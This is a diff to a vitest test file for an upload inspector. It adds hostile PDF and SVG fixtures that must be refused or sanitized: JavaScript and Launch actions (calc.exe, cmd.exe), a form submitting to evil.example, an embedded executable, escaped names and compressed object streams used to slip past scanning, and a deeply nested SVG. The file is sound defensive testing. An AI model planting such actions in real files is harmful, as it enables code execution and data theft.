@@ -1,5 +1,13 @@
 import { describe, expect, it } from 'vitest';
-import { cleanSvg, tinyDocx, tinyJpeg, tinyPdf, tinyPng, zipOf } from '../../../test/support/files.js';
+import {
+  cleanSvg,
+  pdfWithHiddenAnnotation,
+  tinyDocx,
+  tinyJpeg,
+  tinyPdf,
+  tinyPng,
+  zipOf,
+} from '../../../test/support/files.js';
 import { DOCX_TYPE, inspectUpload } from './sniff.js';
 import type { UploadProblem } from './upload-error.js';
 
@@ -73,6 +81,97 @@ describe('inspectUpload: the bytes decide, never the name', () => {
   it('refuses a PDF that runs JavaScript when opened', async () => {
     const scripted = tinyPdf('x', '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> ');
     expect(await problemOf(inspectUpload('document', scripted))).toEqual({ code: 'pdfScripts' });
+  });
+
+  /** A page with one link annotation whose action is `action`. */
+  const linkWith = (action: string) =>
+    tinyPdf('x', '', {
+      page: '/Annots [5 0 R] ',
+      objects: [`<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] ${action} >>`],
+    });
+
+  it('refuses a PDF with JavaScript in a link annotation, its /A or its /AA', async () => {
+    for (const action of [
+      '/A << /S /JavaScript /JS (app.alert\\(1\\)) >>',
+      '/AA << /E << /S /JavaScript /JS (app.alert\\(2\\)) >> >>',
+      // The same name spelled with an escape, as malware does to slip past a plain text search.
+      '/A << /S /J#61vaScript /J#53 (app.alert\\(3\\)) >>',
+    ]) {
+      expect(await problemOf(inspectUpload('document', linkWith(action))), action).toEqual({ code: 'pdfScripts' });
+    }
+    // Anywhere else too: a form field's action, the document's names tree.
+    const field = tinyPdf('x', '/AcroForm << /Fields [5 0 R] >> ', {
+      objects: ['<< /FT /Btn /T (go) /A << /S /JavaScript /JS (app.alert\\(4\\)) >> >>'],
+    });
+    expect(await problemOf(inspectUpload('document', field))).toEqual({ code: 'pdfScripts' });
+    const named = tinyPdf('x', '/Names << /JavaScript 5 0 R >> ', {
+      objects: ['<< /Names [(a) << /S /JavaScript /JS (app.alert\\(5\\)) >>] >>'],
+    });
+    expect(await problemOf(inspectUpload('document', named))).toEqual({ code: 'pdfScripts' });
+  });
+
+  it('refuses a PDF with a Launch action, a form that submits or imports data, or an attached file', async () => {
+    for (const action of [
+      '/A << /S /Launch /F (calc.exe) >>',
+      '/A << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>',
+      '/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>',
+      '/A << /S /ImportData /F (data.fdf) >>',
+    ]) {
+      expect(await problemOf(inspectUpload('document', linkWith(action))), action).toEqual({ code: 'pdfActions' });
+    }
+    const attached = tinyPdf('x', '/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> ', {
+      objects: [
+        '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>',
+        '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
+      ],
+    });
+    expect(await problemOf(inspectUpload('document', attached))).toEqual({ code: 'pdfActions' });
+  });
+
+  it('finds a Launch action packed in a compressed object stream', async () => {
+    const hidden = pdfWithHiddenAnnotation(
+      '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >>',
+    );
+    expect(await problemOf(inspectUpload('document', hidden))).toEqual({ code: 'pdfActions' });
+  });
+
+  it('accepts links to web pages and pages, and text that only mentions /JavaScript or /Launch', async () => {
+    const links = [
+      linkWith('/A << /S /URI /URI (https://example.org/docs/Web/JavaScript) >>'),
+      linkWith('/Dest [3 0 R /Fit]'),
+      tinyPdf('Launch of the report \\(see /Launch and /JavaScript\\)'),
+      pdfWithHiddenAnnotation(
+        '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org/) >> >>',
+      ),
+    ];
+    for (const pdf of links) expect((await inspectUpload('document', pdf)).mediaType).toBe('application/pdf');
+  });
+
+  it('accepts an Illustrator SVG whose styles sit in <![CDATA[…]]>, sanitized like any other style', async () => {
+    const illustrator = `<?xml version="1.0" encoding="utf-8"?>
+<svg version="1.1" xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">
+<style type="text/css"><![CDATA[
+	.st0{fill:#1A4F8B;}
+	.st1{fill:url(http://evil.example/x);}
+]]></style>
+<style type="text/css"><![CDATA[ .st2 > .st3 { fill: #fff } ]]></style>
+<circle class="st0" cx="5" cy="5" r="4"/></svg>`;
+    const svg = (await inspectUpload('logo', Buffer.from(illustrator))).bytes.toString('utf8');
+    expect(svg).toContain('class="st0"');
+    // The style with an external reference is emptied, the other kept (escaped as XML text, which means the same).
+    expect(svg).not.toContain('evil.example');
+    expect(svg).toContain('.st2 &gt; .st3 { fill: #fff }');
+    expect(svg).not.toContain('CDATA');
+  });
+
+  it('stops reading a logo past the worker’s time limit (100 000 nested groups) and refuses it as too complex', {
+    timeout: 60_000,
+  }, async () => {
+    const n = 100_000;
+    const nested = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${'<g>'.repeat(n)}${'</g>'.repeat(n)}</svg>`);
+    expect(await problemOf(inspectUpload('logo', nested))).toEqual({ code: 'tooComplex' });
+    // The worker that was stopped is replaced: the next logo is read as usual.
+    expect((await inspectUpload('logo', Buffer.from(cleanSvg))).mediaType).toBe('image/svg+xml');
   });
 
   it('refuses SVGs that are not well-formed, or carry a DTD (entity bombs)', async () => {
